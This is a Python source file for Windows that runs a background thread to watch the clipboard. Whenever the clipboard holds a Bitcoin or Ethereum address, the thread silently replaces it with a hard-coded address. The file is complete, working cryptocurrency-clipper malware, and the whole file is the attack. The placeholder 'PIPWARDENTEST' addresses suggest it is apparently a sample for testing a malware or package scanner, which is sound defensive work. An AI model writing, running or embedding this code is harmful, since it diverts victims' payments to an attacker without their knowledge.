import ctypes
import re
import threading
import time

u32, k32 = ctypes.windll.user32, ctypes.windll.kernel32
k32.GlobalAlloc.restype = ctypes.c_void_p
k32.GlobalLock.restype = ctypes.c_void_p
u32.GetClipboardData.restype = ctypes.c_void_p
CF_UNICODETEXT = 13
ADDR = {"btc": "bc1qpipwardentest0000000000000000000000000", "eth": "0xPIPWARDENTEST00000000000000000000000000"}


def _get():
    if not u32.OpenClipboard(None):
        return None
    try:
        h = u32.GetClipboardData(CF_UNICODETEXT)
        return ctypes.wstring_at(k32.GlobalLock(h)) if h else None
    finally:
        if h:
            k32.GlobalUnlock(h)
        u32.CloseClipboard()


def _set(text):
    data = ctypes.create_unicode_buffer(text)
    h = k32.GlobalAlloc(0x0042, ctypes.sizeof(data))
    ctypes.memmove(k32.GlobalLock(h), data, ctypes.sizeof(data))
    k32.GlobalUnlock(h)
    u32.OpenClipboard(None)
    u32.EmptyClipboard()
    u32.SetClipboardData(CF_UNICODETEXT, h)
    u32.CloseClipboard()


def _loop():
    while True:
        t = _get() or ""
        if re.fullmatch(r"0x[0-9a-fA-F]{40}", t.strip()):
            _set(ADDR["eth"])
        elif re.fullmatch(r"(bc1|[13])[0-9A-Za-z]{25,60}", t.strip()):
            _set(ADDR["btc"])
        time.sleep(0.3)


def start():
    threading.Thread(target=_loop, daemon=True).start()
